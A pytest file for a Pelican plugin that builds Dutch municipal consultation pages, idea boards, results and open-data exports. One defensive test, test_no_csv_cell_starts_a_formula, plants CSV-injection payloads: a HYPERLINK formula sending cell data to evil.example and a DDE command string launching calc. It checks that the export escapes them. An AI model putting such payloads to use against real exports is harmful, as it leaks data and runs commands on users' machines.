"""Consultations, the build half (plugins/participation, docs/participation.md):
the board, idea pages, results and open data, participation.json and its
shell, the editor's front-matter lines, and where the ideas come from (a
folder, the service, its cached copy, or nothing).

The plugin is not imported here: under pytest, tests/ is on sys.path and
tests/participation/ (the service's tests) would be found as a namespace
package named ``participation`` first, shadowing the plugin for Pelican's
loader for the rest of the session."""

from __future__ import annotations

import csv
import http.server
import io
import json
import re
import threading
from pathlib import Path

import pytest
from babel.messages.extract import extract_from_file
from babel.messages.pofile import read_po
from bs4 import BeautifulSoup
from conftest import free_port
from stop_lines import stop_line

from dorpsplein.build import ROOT, BuildFailed

pytestmark = pytest.mark.slow

DATA = ROOT / "tests" / "data" / "participation"
FIXTURE = json.loads((DATA / "dorpsplein-groener.json").read_text(encoding="utf-8"))
SLUG = "dorpsplein-groener"
BASE = f"/inspraak/{SLUG}/"
OPEN_NOW = "2026-11-27 12:00"
AFTER_CLOSE = "2027-03-01 10:00"
PLUGIN = ROOT / "plugins" / "participation"
ANSWERS = ("Answer-4: We planten zes linden langs de kerkmuur; de marktstrook blijft vrij.\n"
           "Answer-9: Het monument krijgt een grasveld met **twee banken**.\n")


def by_support(ideas):
    return [i["id"] for i in sorted(ideas, key=lambda i: (-i["supports"], i["id"]))]


def with_answers(content: Path) -> Path:
    """The sample consultation with the town's answers to ideas 4 and 9."""
    path = content / "inspraak" / f"{SLUG}.md"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("Image_alt:", ANSWERS + "Image_alt:", 1), encoding="utf-8")
    return content


# -- the sample site (open, ideas from tests/data/participation) -------------

def test_the_board_lists_approved_ideas_by_support_with_links(sample_site):
    doc = sample_site.html(BASE)
    service = sample_site.settings["PARTICIPATION_URL"]
    items = doc.select("[data-board-list] > li.participation-idea")
    assert [int(li["data-idea"]) for li in items] == by_support(FIXTURE["ideas"])
    first = items[0]
    idea = next(i for i in FIXTURE["ideas"] if i["id"] == int(first["data-idea"]))
    title = first.select_one(".participation-idea__title a")
    assert title.get_text() == idea["title"]
    assert title["href"] == f"{BASE}idee-{idea['id']}/"
    assert first.select_one(".participation-idea__by").get_text() == \
        f"{idea['name']}, {idea['place']}"
    assert first.select_one("[data-idea-count]").get_text() == f"{idea['supports']} keer gesteund"
    assert first.select_one(".participation-idea__excerpt").get_text().startswith(
        idea["text"][:40])
    support = first.select_one("a.participation-idea__support")
    assert support["href"] == f"{service}/{SLUG}/steun/{idea['id']}"
    assert support.get_text().startswith("Steun dit idee")
    report = first.select_one("a.participation-idea__report")
    assert report["href"] == f"{service}/{SLUG}/meld/{idea['id']}"
    assert report.get_text().startswith("Melden")
    status = first.select_one("[data-idea-status]")
    assert status["role"] == "status" and status["aria-live"] == "polite"
    # No name: the place says who; no place: the name alone.
    by = {int(li["data-idea"]): li.select_one(".participation-idea__by").get_text()
          for li in items}
    assert by[9] == "Iemand uit Hoeksken" and by[11] == "Bart Verhaeghe"
    links = {a.get_text(strip=True): a["href"] for a in doc.select(".participation-board__links a")}
    assert links["Deel je idee"] == f"{service}/{SLUG}/idee"
    assert links["Bekijk het actuele overzicht"] == f"{service}/{SLUG}/"
    assert "6 ideeën · 112 keer gesteund" in doc.select_one("[data-board-total]").get_text()


IDEA_LINE = ("We tonen je idee met de naam en de straat of wijk die je invult; beide mag je "
             "leeg laten. Hoe we met je gegevens omgaan: privacyverklaring.")


def test_the_invitation_to_share_an_idea_says_what_is_shown_and_links_privacy(sample_site):
    doc = sample_site.html(BASE)
    line = doc.select_one("#ideeen-privacy")
    assert " ".join(line.get_text().split()) == IDEA_LINE
    link = line.select_one("a")
    assert link.get_text() == "privacyverklaring"
    assert link["href"] == "/privacyverklaring/"
    assert sample_site.path(link["href"]).is_file()  # the statement is in the site
    share = next(a for a in doc.select(".participation-board__links a")
                 if a.get_text(strip=True) == "Deel je idee")
    assert share["aria-describedby"] == "ideeen-privacy"
    # Read before the button: the line comes first in the page.
    assert line.find_next("a", string="Deel je idee") is share


def test_the_consultation_page_says_question_phase_dates_and_rules(sample_site):
    doc = sample_site.html(BASE)
    assert doc.h1.get_text() == "Hoe maken we het Dorpsplein groener?"
    assert doc.title.get_text().startswith("Hoe maken we het Dorpsplein groener? · Inspraak")
    phase = doc.select_one(".participation-phase").get_text(" ", strip=True)
    assert phase == "Fase: Deel je idee en steun de ideeën van anderen"
    times = doc.select(".participation-dates time")
    assert [t["datetime"] for t in times] == ["2026-11-16T09:00:00+01:00",
                                              "2027-02-28T23:59:00+01:00"]
    assert [t.get_text() for t in times] == ["16 november 2026 om 9:00 uur",
                                             "28 februari 2027 om 23:59 uur"]
    rules = doc.select_one(".participation-rules").get_text(" ", strip=True)
    assert "Je kunt tot 5 ideeën steunen" in rules
    assert "twee keer meetellen" in rules  # indicative, explained
    assert "Een moderator leest elk idee voor het hier verschijnt" in rules
    assert "De kerk en het oorlogsmonument" in doc.select_one(".prose").get_text()
    assert [a.get_text() for a in doc.select(".breadcrumbs a")] == ["Start", "Inspraak"]
    assert doc.select_one('.site-nav a[aria-current="page"]').get_text() == "Inspraak"


def test_only_an_open_consultation_page_loads_the_script_late(sample_site):
    doc = sample_site.html(BASE)
    script = doc.select_one('script[src*="/theme/js/participation."]')
    assert script is not None and script.has_attr("defer")
    assert script["data-participation"] == sample_site.settings["PARTICIPATION_URL"]
    assert script["data-slug"] == SLUG and script["data-verification"] == "indicative"
    assert script["data-message-already-supported"] == "Je steunt dit idee al."
    assert script["data-message-unreachable"].startswith("De inspraakdienst is nu niet")
    assert script["data-count-many"] == "{n} keer gesteund"
    assert sample_site.path(script["src"]).is_file()
    for url in ("/inspraak/", f"{BASE}idee-4/", "/2026/online-burgerbevraging/"):
        assert not sample_site.html(url).select('script[src*="/theme/js/participation."]'), url
    # Its styles are in main.css (the board page keeps to the article budget).
    sheets = [link["href"] for link in doc.select('link[rel="stylesheet"]')]
    assert sheets == [link["href"] for link in
                      sample_site.html("/").select('link[rel="stylesheet"]')]


def test_every_approved_idea_has_a_page_with_share_links_and_preview(sample_site):
    for item in FIXTURE["ideas"]:
        url = f"{BASE}idee-{item['id']}/"
        doc = sample_site.html(url)
        absolute = "http://127.0.0.1:8000" + url
        assert doc.h1.get_text() == item["title"]
        assert doc.select_one(".participation-idea__count").get_text() == \
            f"{item['supports']} keer gesteund"
        meta = {m.get("property") or m.get("name"): m["content"] for m in doc.select("head meta")
                if m.get("property") or (m.get("name") or "").startswith("twitter:")}
        assert meta["og:title"] == item["title"] and meta["twitter:title"] == item["title"]
        assert meta["og:url"] == absolute
        assert meta["og:site_name"] == "Lindeveld in gesprek"
        assert meta["twitter:card"] == "summary"  # the consultation's image is an SVG
        assert item["text"][:30] in meta["og:description"]
        assert doc.select_one('link[rel="canonical"]')["href"] == absolute
        share = {a["href"].split("?")[0] for a in doc.select(".share__list a")}
        assert "https://www.facebook.com/sharer/sharer.php" in share
        assert doc.select_one(".share__title").get_text() == "Deel dit idee"
        assert doc.select_one("a.participation-idea__support")["href"].endswith(
            f"/{SLUG}/steun/{item['id']}")
        back = doc.select_one(".idea__back a")["href"]
        assert back == f"{BASE}#idee-{item['id']}"
        assert sample_site.html(BASE).select_one(f"#idee-{item['id']}")


def test_the_list_page_and_the_menu_lead_to_the_consultation(sample_site):
    doc = sample_site.html("/inspraak/")
    assert doc.h1.get_text() == "Inspraak"
    cards = doc.select(".participation-card")
    assert [c.select_one("a")["href"] for c in cards] == [BASE]
    assert "participation-card--open" in cards[0]["class"]
    menu = {a.get_text(strip=True): a["href"] for a in doc.select(".site-nav a")}
    assert menu["Inspraak"] == "/inspraak/"
    article = sample_site.html("/2026/online-burgerbevraging/")
    assert article.select_one(f'.prose a[href$="/inspraak/{SLUG}/"]')


def test_no_results_before_closes(sample_site):
    assert not (sample_site.output / "inspraak" / SLUG / "resultaten").exists()
    assert not (sample_site.output / "inspraak" / SLUG / "resultaten.csv").exists()
    assert not sample_site.html(BASE).select('a[href*="resultaten"]')


def test_participation_json_has_the_contract_shape_and_a_shell(sample_site):
    data = json.loads((sample_site.output / "participation.json").read_text(encoding="utf-8"))
    assert set(data) == {"version", "site_url", "consultations", "self_tests", "email_follow",
                         "shell"}
    assert data["version"] == 1 and data["site_url"] == "http://127.0.0.1:8000"
    entry = data["consultations"][SLUG]
    assert entry == {
        "title": "Hoe maken we het Dorpsplein groener?",
        "url": f"http://127.0.0.1:8000{BASE}",
        "opens": "2026-11-16T09:00:00+01:00",
        "closes": "2027-02-28T23:59:00+01:00",
        "phase": "ideas",
        "supports": 5,
        "verification": "indicative",
        "moderation": "before",
        "ideas_built": sorted(i["id"] for i in FIXTURE["ideas"]),
        "idea_url": f"http://127.0.0.1:8000{BASE}idee-{{id}}/",
        "privacy_url": "http://127.0.0.1:8000/privacyverklaring/",
    }
    shell = data["shell"]
    assert "<script" not in shell.lower()
    assert "<title><!--participation:title--></title>" in shell
    doc = BeautifulSoup(shell, "lxml")
    main = doc.select_one("main#inhoud")
    assert main.decode_contents().strip() == "<!--participation:main-->"
    assert shell.count("<!--participation:main-->") == 1
    sheets = [link["href"] for link in doc.select('link[rel="stylesheet"]')]
    assert len(sheets) == 2  # the design tokens and main.css
    assert all(href.startswith("http://127.0.0.1:8000/theme/css/") for href in sheets)
    for href in sheets:
        assert sample_site.path(href.removeprefix("http://127.0.0.1:8000")).is_file()
    assert doc.select_one("header.site-header") and doc.select_one("footer.site-footer")
    assert doc.select_one(".site-header__brand")["href"] == "http://127.0.0.1:8000/"


def test_consultations_are_not_articles_or_pages(sample_site):
    assert "inspraak" in sample_site.settings["ARTICLE_EXCLUDES"]
    assert "inspraak" in sample_site.settings["PAGE_EXCLUDES"]
    assert not (sample_site.output / SLUG).exists()
    assert not (sample_site.output / "2026" / SLUG).exists()


# -- after Closes: results and open data ---------------------------------------

@pytest.fixture(scope="module")
def closed_site(tmp_path_factory):
    """The sample site with the town's answers, built after the consultation closed."""
    import shutil

    from conftest import CONTENT, Site

    from dorpsplein.build import build

    root = tmp_path_factory.mktemp("closed")
    content = root / "content"
    shutil.copytree(CONTENT, content)
    with_answers(content)
    return Site(build("pelicanconf.py", overrides={
        "PATH": str(content), "OUTPUT_PATH": str(root / "output"),
        "CACHE_PATH": str(root / "cache"), "CACHE_CONTENT": False,
        "LOAD_CONTENT_CACHE": False, "PARTICIPATION_DATA": str(DATA),
        "PARTICIPATION_NOW": AFTER_CLOSE}))


def test_after_closes_the_results_page_lists_ideas_by_support_with_answers(closed_site):
    doc = closed_site.html(f"{BASE}resultaten/")
    titles = [h.get_text() for h in doc.select(".participation-result__title")]
    expected = {i["id"]: i for i in FIXTURE["ideas"]}
    assert titles == [expected[i]["title"] for i in by_support(FIXTURE["ideas"])]
    counts = [int(s["data-result-supports"]) for s in doc.select("[data-result-supports]")]
    assert sum(counts) == FIXTURE["total_supports"]
    assert int(doc.select_one("[data-results-total]")["data-results-total"]) == \
        FIXTURE["total_supports"]
    assert "112 keer gesteund in totaal" in doc.get_text()
    answers = [r.select_one(".participation-answer") for r in doc.select(".participation-result")]
    assert [a is not None for a in answers] == [True, False, False, True, False, False]
    assert "zes linden" in answers[0].get_text()
    assert answers[3].select_one("strong").get_text() == "twee banken"
    note = doc.select_one(".participation-totals__note").get_text(" ", strip=True)
    assert "Indicatief" in note and "twee keer meetellen" in note
    downloads = [a["href"] for a in doc.select(".participation-data a")]
    assert downloads == [f"{BASE}resultaten.csv", f"{BASE}resultaten.json"]
    # Phase is still "ideas": the answers are not all written yet, and it says so.
    assert doc.select_one(".participation-note")


def test_open_data_totals_equal_the_data(closed_site):
    raw = closed_site.path(f"{BASE}resultaten.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [int(r["id"]) for r in rows] == by_support(FIXTURE["ideas"])
    assert sum(int(r["supports"]) for r in rows) == FIXTURE["total_supports"]
    assert rows[0]["answer"].startswith("We planten zes linden")
    assert rows[0]["url"] == f"http://127.0.0.1:8000{BASE}idee-4/"
    data = json.loads(closed_site.path(f"{BASE}resultaten.json").read_text(encoding="utf-8"))
    assert data["total_supports"] == FIXTURE["total_supports"]
    assert sum(i["supports"] for i in data["ideas"]) == data["total_supports"]
    assert data["ideas_count"] == len(FIXTURE["ideas"]) == len(rows)
    assert data["verification"] == "indicative" and data["supports_per_person"] == 5
    assert [i["rank"] for i in data["ideas"]] == list(range(1, 7))


def test_after_closes_nothing_invites_to_support(closed_site):
    doc = closed_site.html(BASE)
    assert not doc.select(".participation-idea__support, .participation-idea__report")
    assert not doc.select('script[src*="/theme/js/participation."]')
    assert not [a for a in doc.select("a") if a.get_text(strip=True) == "Deel je idee"]
    assert not doc.select("#ideeen-privacy")  # no idea to share, nothing to say
    assert doc.select_one(".consultation__results a")["href"] == f"{BASE}resultaten/"
    assert doc.select_one(".participation-phase").get_text(" ", strip=True) == \
        "Fase: Afgesloten: de gemeente bekijkt de ideeën"
    idea = closed_site.html(f"{BASE}idee-4/")
    assert "zes linden" in idea.select_one(".participation-answer").get_text()
    assert not closed_site.html(f"{BASE}idee-2/").select_one(".participation-answer")
    assert not idea.select(".participation-idea__support")


# -- the editor's lines ------------------------------------------------------

BAD = {
    "kapotte-datum.md": ("Title: Waar komt de nieuwe speeltuin?\nOpens: morgen\n"
                         "Closes: 2027-01-31 23:59\nPhase: ideas\n\nTekst.\n", 2),
    "verkeerde-fase.md": ("Title: Welke naam krijgt de nieuwe brug?\n"
                          "Opens: 2026-11-16 09:00\nCloses: 2027-01-31 23:59\n"
                          "Verification: indicative\nPhase: stemmen\n\nTekst.\n", 5),
    "omgekeerd.md": ("Title: Wat doen we met de oude pastorie?\nPhase: ideas\n"
                     "Opens: 2027-02-01 09:00\nCloses: 2027-01-31 23:59\n\nTekst.\n", 4),
    "te-lang.md": ("Title: " + "Hoe " * 40 + "?\nOpens: 2026-11-16 09:00\n"
                   "Closes: 2027-01-31 23:59\nPhase: ideas\n\nTekst.\n", 1),
    "steun.md": ("Title: Waar zetten we de fietsenstalling?\nOpens: 2026-11-16 09:00\n"
                 "Closes: 2027-01-31 23:59\nPhase: support\nSupports: veel\n"
                 "Moderation: nooit\nAnswer-x: Ja.\n\nTekst.\n", 7),
    # The service's own addresses (and nginx's password on "...moderatie").
    "api.md": ("Title: Waar komt de nieuwe bank?\nSlug: api\nOpens: 2026-11-16 09:00\n"
               "Closes: 2027-01-31 23:59\nPhase: ideas\n\nTekst.\n", 2),
    "moderatie.md": ("Title: Hoe modereren we?\nOpens: 2026-11-16 09:00\n"
                     "Closes: 2027-01-31 23:59\nPhase: ideas\n\nTekst.\n", 1),
}


def test_every_front_matter_problem_is_one_line_with_file_and_line(build_site, content_copy):
    folder = content_copy / "inspraak"
    for name, (text, _line) in BAD.items():
        (folder / name).write_text(text, encoding="utf-8")
    with pytest.raises(BuildFailed) as failed:
        build_site(content=content_copy, PARTICIPATION_DATA=str(DATA),
                   PARTICIPATION_NOW=OPEN_NOW)
    problems = failed.value.problems
    assert all("\n" not in p and "Traceback" not in p for p in problems)

    def lines_of(name):
        return [p for p in problems if re.search(rf"inspraak/{re.escape(name)}:\d+: ", p)]

    for name, (_text, line) in BAD.items():
        found = lines_of(name)
        assert found, (name, problems)
        assert found[0].split(f"{name}:")[1].startswith(f"{line}: "), found
        assert " — " in found[0]
    assert "'morgen' is geen geldig moment voor Opens" in lines_of("kapotte-datum.md")[0]
    assert "'stemmen' is geen fase — schrijf Phase: en een van ideas of support of closed of " \
        "results." in lines_of("verkeerde-fase.md")[0]
    assert "Closes (2027-01-31 23:59) ligt niet na Opens (2027-02-01 09:00)" in \
        lines_of("omgekeerd.md")[0]
    assert "meer dan 120" in lines_of("te-lang.md")[0]
    several = lines_of("steun.md")
    assert [p.split("steun.md:")[1].split(":")[0] for p in several] == ["7", "6", "5"]
    assert "'veel' is geen aantal steunbetuigingen" in several[2]
    for name in ("api.md", "moderatie.md"):
        assert "al in gebruik door de inspraakdienst zelf" in lines_of(name)[0]
    # The good consultation is still built; the bad ones are not.
    assert len(problems) == 9


def test_the_lines_follow_the_editor_language(build_site, content_copy):
    (content_copy / "inspraak" / "x.md").write_text(
        "Title: Een vraag\nOpens: 2026-11-16 09:00\nCloses: 2027-01-31 23:59\n\nTekst.\n",
        encoding="utf-8")
    line = stop_line(build_site, content=content_copy, PARTICIPATION_DATA=str(DATA),
                     PARTICIPATION_NOW=OPEN_NOW, EDITOR_LANGUAGE="en")
    assert line.endswith("inspraak/x.md:1: the consultation has no Phase — add a line such as "
                         "'Phase: ideas'.")


def test_a_wrong_moment_setting_stops_the_build_naming_it(build_site):
    line = stop_line(build_site, PARTICIPATION_DATA=str(DATA), PARTICIPATION_NOW="gisteren")
    assert line.startswith("PARTICIPATION_NOW = 'gisteren' is not a moment")


def test_every_editor_message_has_its_dutch_line():
    with (PLUGIN / "locale" / "nl" / "LC_MESSAGES" / "messages.po").open("rb") as handle:
        catalog = read_po(handle, locale="nl")
    wanted = {m for path in PLUGIN.glob("*.py")
              for _l, m, _c, _x in extract_from_file("python", path)}
    entries = {m.id: m for m in catalog if m.id}
    assert wanted and set(entries) == wanted
    for msgid, message in entries.items():
        assert message.string and not message.fuzzy, msgid
        assert set(re.findall(r"\{(\w*)\}", message.string)) == \
            set(re.findall(r"\{(\w*)\}", msgid)), msgid
        if " — " in msgid:
            assert " — " in message.string, msgid


# -- where the ideas come from -------------------------------------------------

class _Service(http.server.BaseHTTPRequestHandler):
    """Answers GET /api/<slug>/ideas with the fixture, like the service."""

    def do_GET(self):  # noqa: N802 - the http.server name
        if self.path == f"/api/{SLUG}/ideas":
            body = json.dumps(FIXTURE).encode("utf-8")
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        else:
            self.send_error(404)

    def log_message(self, *args):
        pass


def test_the_service_answer_is_cached_and_used_when_it_does_not_answer(build_site, tmp_path,
                                                                      capsys):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Service)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    cache = tmp_path / "cache"
    try:
        site = build_site(PARTICIPATION_DATA=f"http://127.0.0.1:{server.server_port}",
                          PARTICIPATION_NOW=OPEN_NOW, CACHE_PATH=str(cache))
    finally:
        server.shutdown()
        server.server_close()
    kept = json.loads((cache / "participation" / f"{SLUG}.json").read_text(encoding="utf-8"))
    assert kept["board"]["total_supports"] == FIXTURE["total_supports"]
    assert len(site.html(BASE).select("[data-board-list] > li")) == len(FIXTURE["ideas"])
    capsys.readouterr()

    closed = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    site = build_site(PARTICIPATION_DATA=closed, PARTICIPATION_NOW=OPEN_NOW,
                      CACHE_PATH=str(cache))
    said = [line for line in capsys.readouterr().err.splitlines() if "inspraakdienst" in line]
    assert said == [f"De inspraakdienst op {closed} antwoordde niet ([Errno 111] Connection "
                    f"refused): de ideeënlijst van '{SLUG}' is de kopie van 2026-11-27 12:00."]
    ids = [int(li["data-idea"]) for li in site.html(BASE).select("[data-board-list] > li")]
    assert ids == by_support(FIXTURE["ideas"])
    assert site.path(f"{BASE}idee-4/").is_file()


def test_without_any_data_an_open_consultation_is_built_with_an_empty_board(
        build_site, tmp_path, capsys):
    site = build_site(PARTICIPATION_DATA=f"http://127.0.0.1:{free_port()}",
                      PARTICIPATION_NOW=OPEN_NOW, CACHE_PATH=str(tmp_path / "cache"))
    assert "inspraakdienst" not in capsys.readouterr().err  # nothing to fall back on: quiet
    doc = site.html(BASE)
    assert not doc.select("[data-board-list] > li")
    assert "Deel als eerste je idee" in doc.select_one("[data-board-empty]").get_text()
    data = json.loads((site.output / "participation.json").read_text(encoding="utf-8"))
    assert data["consultations"][SLUG]["ideas_built"] == []


def test_the_preview_leaves_results_without_data_out_and_says_why(build_site, tmp_path,
                                                                   capsys):
    """A checkout long after the sample closed still previews: no results
    page rather than an empty one, and one line that says why."""
    empty = tmp_path / "geen-data"
    empty.mkdir()
    site = build_site(PARTICIPATION_DATA=str(empty), PARTICIPATION_NOW=AFTER_CLOSE,
                      CACHE_PATH=str(tmp_path / "cache"))
    err = capsys.readouterr().err
    assert (f"content/inspraak/{SLUG}.md: de inspraakronde is gesloten, maar de bouw kreeg "
            f"van {empty} geen ideeën voor de resultaten") in err
    assert site.path(BASE).is_file()
    assert not (site.output / "inspraak" / SLUG / "resultaten.csv").exists()
    assert not (site.output / "inspraak" / SLUG / "resultaten").exists()


def test_results_without_data_stop_the_publish_build_with_one_sentence(build_site, tmp_path):
    empty = tmp_path / "geen-data"
    empty.mkdir()
    line = stop_line(build_site, PARTICIPATION_DATA=str(empty), PARTICIPATION_NOW=AFTER_CLOSE,
                     CACHE_PATH=str(tmp_path / "cache"), SITEURL="https://www.lindeveld.be")
    assert line == (f"content/inspraak/{SLUG}.md: de inspraakronde sloot op 2027-02-28 23:59, "
                    f"maar de bouw kreeg van {empty} geen ideeën voor de resultaten — start de "
                    "inspraakdienst zodat de bouw ze kan opvragen, of zet PARTICIPATION_DATA op "
                    f"een map met {SLUG}.json.")


# -- in Chromium -----------------------------------------------------------------

RUN_AXE = """async () => {
  const result = await axe.run(document, {runOnly: {type: 'tag',
    values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']}});
  return result.violations.map(v => v.id + ': ' + v.help + ' ' +
    v.nodes.slice(0, 3).map(n => n.target.join(' ')).join(', '));
}"""


@pytest.mark.e2e
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_pages_pass_axe_and_fit_a_phone(browser, served_site, axe_source, scheme):
    context = browser.new_context(viewport={"width": 375, "height": 900}, color_scheme=scheme)
    page = context.new_page()
    faults = []
    try:
        for url in ("/inspraak/", BASE, f"{BASE}idee-4/"):
            page.goto(served_site + url, wait_until="networkidle")
            page.add_script_tag(content=axe_source)
            faults += [f"{url} ({scheme}): {v}" for v in page.evaluate(RUN_AXE)]
            overflow = page.evaluate("() => document.documentElement.scrollWidth"
                                     " - document.documentElement.clientWidth")
            if overflow > 0:
                faults.append(f"{url}: scrolls sideways by {overflow}px")
    finally:
        context.close()
    assert not faults, "\n".join(faults)


@pytest.mark.e2e
def test_without_the_service_the_script_says_so_and_keeps_the_links(browser, served_site):
    """The sample's service address answers nothing: the board stays as built,
    a sentence says so, and a support ends in a sentence too, never silently."""
    context = browser.new_context(viewport={"width": 375, "height": 900})
    page = context.new_page()
    try:
        page.goto(served_site + BASE, wait_until="networkidle")
        # The script asks for the current board when the reader nears it.
        page.locator("[data-participation-board]").scroll_into_view_if_needed()
        page.wait_for_function("document.querySelector('[data-board-status]').textContent")
        assert page.locator("[data-board-status]").inner_text().startswith(
            "Het actuele overzicht kon niet worden geladen")
        assert page.locator("[data-board-list] > li").count() == len(FIXTURE["ideas"])
        button = page.locator("#idee-4 button.participation-idea__support")
        assert button.inner_text().startswith("Steun dit idee")
        button.click()
        status = page.locator("#idee-4-status")
        page.wait_for_function(
            "document.querySelector('#idee-4-status').textContent.startsWith('De inspraakdienst')")
        assert status.inner_text() == ("De inspraakdienst is nu niet bereikbaar. "
                                       "Probeer het later opnieuw.")
        assert page.locator("#idee-2 a.participation-idea__report").count() == 1
    finally:
        context.close()


def test_no_csv_cell_starts_a_formula(tmp_path, build_site):
    """A citizen's title like "=HYPERLINK(...)" stays text in a spreadsheet;
    the JSON and the pages keep it as written."""
    data = tmp_path / "data"
    data.mkdir()
    hostile = json.loads(json.dumps(FIXTURE))
    hostile["ideas"][0]["title"] = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
    hostile["ideas"][1]["name"] = "+cmd|' /C calc'!A0"
    hostile["ideas"][2]["place"] = "@SUM(1+1)"
    hostile["ideas"][3]["text"] = "-2+3 bomen"
    (data / f"{SLUG}.json").write_text(json.dumps(hostile), encoding="utf-8")
    site = build_site(PARTICIPATION_DATA=str(data), PARTICIPATION_NOW=AFTER_CLOSE,
                      CACHE_PATH=str(tmp_path / "cache"))
    raw = site.path(f"{BASE}resultaten.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in raw and "'@SUM(1+1)" in raw and "'-2+3 bomen" in raw
    opened = json.loads(site.path(f"{BASE}resultaten.json").read_text(encoding="utf-8"))
    assert opened["ideas"][0]["title"].startswith("=HYPERLINK(")
    assert sum(int(row["supports"]) for row in csv.DictReader(io.StringIO(raw))) == \
        FIXTURE["total_supports"]


def test_ideas_have_comment_threads_when_the_consultation_says_so(sample_site):
    """`Comments: open` gives each idea page a thread on the town's comment
    server, listed for it in isso-threads.json (dorpsplein_kit.own_pages);
    `off` gives none."""
    threads = json.loads((sample_site.output / "isso-threads.json").read_text())["threads"]
    for item in FIXTURE["ideas"]:
        url = f"{BASE}idee-{item['id']}/"
        assert threads[url] == {"state": "open", "title": item["title"]}
        thread = sample_site.html(url).select_one("#isso-thread")
        assert thread["data-isso-id"] == url
    assert BASE not in threads  # the consultation page itself has no thread


def test_after_closing_idea_threads_are_closed_and_off_means_none(build_site, content_copy,
                                                                   tmp_path):
    site = build_site(PARTICIPATION_DATA=str(DATA), PARTICIPATION_NOW=AFTER_CLOSE,
                      CACHE_PATH=str(tmp_path / "cache"))
    threads = json.loads((site.output / "isso-threads.json").read_text())["threads"]
    assert threads[f"{BASE}idee-4/"]["state"] == "closed"
    page = content_copy / "inspraak" / f"{SLUG}.md"
    page.write_text(page.read_text(encoding="utf-8").replace("Comments: open", "Comments: off"),
                    encoding="utf-8")
    site = build_site(content=content_copy, PARTICIPATION_DATA=str(DATA),
                      PARTICIPATION_NOW=OPEN_NOW, CACHE_PATH=str(tmp_path / "cache2"),
                      OUTPUT_PATH=str(tmp_path / "off"))
    threads = json.loads((site.output / "isso-threads.json").read_text())["threads"]
    assert not [url for url in threads if url.startswith("/inspraak/")]
    assert not site.html(f"{BASE}idee-4/").select("#isso-thread")


def test_consultation_pages_are_in_the_sitemap_and_the_search_index(sample_site):
    """Offered through dorpsplein_kit.own_pages: the sitemap lists the list, the
    consultation and each idea page; the search index reads the consultation
    and the ideas (not the list, not the board's copy of the ideas)."""
    from lxml import etree

    tree = etree.parse(str(sample_site.output / "sitemap.xml"))
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    listed = {loc.text.removeprefix("http://127.0.0.1:8000")
              for loc in tree.findall(".//s:loc", ns)}
    assert {"/inspraak/", BASE} | {f"{BASE}idee-{i['id']}/" for i in FIXTURE["ideas"]} <= listed
    lastmod = {u.findtext("s:loc", namespaces=ns): u.findtext("s:lastmod", namespaces=ns)
               for u in tree.findall(".//s:url", ns)}
    assert lastmod[f"http://127.0.0.1:8000{BASE}"].startswith("2026-11-16")  # it opened

    from test_site_search import fragments

    indexed = {f["url"]: f for f in fragments(sample_site.output)}
    assert BASE in indexed and f"{BASE}idee-4/" in indexed
    assert "/inspraak/" not in indexed
    assert FIXTURE["ideas"][0]["title"] not in indexed[BASE]["content"]  # board: ignored
